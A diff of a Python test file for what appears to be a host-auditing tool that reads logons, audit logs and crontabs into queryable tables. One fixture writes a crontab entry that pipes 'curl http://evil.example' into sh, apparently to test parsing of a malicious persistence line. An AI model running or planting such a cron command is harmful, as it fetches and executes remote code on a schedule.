@@ -151,15 +151,19 @@ def test_logons_of_wtmp_are_read(tmp_path: Path) -> None:
 
 
 async def test_table_that_cannot_be_filled_is_no_empty_one(tmp_path: Path) -> None:
-    """A system that keeps no records of logons, and an audit log that fell silent, clear nobody."""
-    places = Places(wtmp=tmp_path / "none", etc=tmp_path, crontabs=tmp_path / "spool")
+    """A system that keeps no records of logons, an audit log that fell silent, and a crontab that is read in part
+    clear nobody."""
+    (tmp_path / "utmp").touch()
+    (tmp_path / "cron.d").mkdir()
+    (tmp_path / "cron.d" / "padded").write_bytes(b"#" * 1_000_001)
+    places = Places(tmp_path / "utmp", tmp_path / "none", etc=tmp_path, crontabs=(tmp_path / "spool",))
     log = tmp_path / "audit.log"
     log.write_text("type=SYSCALL msg=audit(1790000000.100:1): success=yes\n")
     tables = LocalTables(local_tables(AuditLog(log, timedelta(minutes=60)), places))
-    names = ("last", "process_events", "process_file_events", "crontab", "users")
+    names = ("last", "logged_in_users", "process_events", "process_file_events", "crontab", "users")
     found = {name: tables.query(f"SELECT * FROM {name}", 20, None).stale for name in names}
 
-    assert [name for name in names if found[name] is not None] == ["last", "process_events", "process_file_events"]
+    assert [name for name in names if found[name] is None] == ["users"]
 
 
 def test_crontabs_are_read_as_cron_reads_them(tmp_path: Path) -> None:
@@ -168,7 +172,7 @@ def test_crontabs_are_read_as_cron_reads_them(tmp_path: Path) -> None:
     (tmp_path / "spool").mkdir()
     (tmp_path / "crontab").write_text("# no\nPATH=/bin\n5 4 * * 1-5 root run  --all\n@reboot daemon start me\nbroken\n")
     (tmp_path / "spool" / "eve").write_text("*/5 * * * * curl http://evil.example | sh\n")
-    tables = local_tables(None, Places(etc=tmp_path, crontabs=tmp_path / "spool"))
+    tables = local_tables(None, Places(etc=tmp_path, crontabs=(tmp_path / "spool",)))
     found = answer("SELECT event, minute, day_of_week, command FROM crontab", tables)
 
     assert found.rows == [
